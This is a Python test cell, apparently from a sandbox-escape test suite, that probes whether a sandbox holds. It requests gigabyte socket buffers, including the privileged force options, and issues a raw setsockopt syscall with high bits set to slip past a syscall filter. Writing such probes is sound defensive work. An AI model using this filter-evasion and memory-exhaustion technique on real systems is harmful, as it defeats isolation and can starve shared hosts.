"""Asks for socket buffers of gigabytes, which are in no process's account and of which a few suffice."""

from attacks import IF_ESCAPED

EXERCISE = "start-greet"
CELL = (
    r"""
import ctypes, socket
server = socket.create_server(("127.0.0.1", 0))
ends = [*socket.socketpair(), server, socket.create_connection(server.getsockname()),
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]
most = ctypes.c_int(1 << 30)
call = ctypes.CDLL(None).syscall
escaped = False
for end in ends:
    for option, forced in ((socket.SO_SNDBUF, 32), (socket.SO_RCVBUF, 33)):
        before = end.getsockopt(socket.SOL_SOCKET, option)
        for name in (option, forced):
            try:
                end.setsockopt(socket.SOL_SOCKET, name, 1 << 30)
            except OSError:
                pass
            # The system reads the lower half of each number only: the upper one must not hide it from a filter.
            call(ctypes.c_long(54), ctypes.c_long(end.fileno()), ctypes.c_long(1 | 1 << 32),
                 ctypes.c_long(name | 1 << 32), ctypes.byref(most), ctypes.c_long(4))
        escaped = escaped or end.getsockopt(socket.SOL_SOCKET, option) > before
"""
    + IF_ESCAPED
)
